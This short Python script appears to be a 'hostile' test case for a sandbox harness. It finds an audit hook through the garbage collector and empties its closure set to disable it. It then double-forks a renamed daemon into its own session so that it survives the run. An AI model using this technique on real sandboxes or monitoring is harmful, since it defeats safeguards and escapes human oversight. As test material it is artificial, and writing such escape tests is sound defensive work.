# hostile: find the audit hook through gc, disable it, then leave a double-forked daemon in its own session behind
# (the escape is a process named fem-hostile-daemon still alive after the run; the exit status does not matter)
import gc
import os
import sys
import time
for obj in gc.get_objects():
    if type(obj).__name__ == 'function' and obj.__name__ == 'hook' and obj.__closure__:
        for cell in obj.__closure__:
            if type(cell.cell_contents) is set:
                cell.cell_contents = set()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/bin/sleep', ['fem-hostile-daemon', '30'])
    os._exit(0)
time.sleep(0.5)
sys.exit(1)
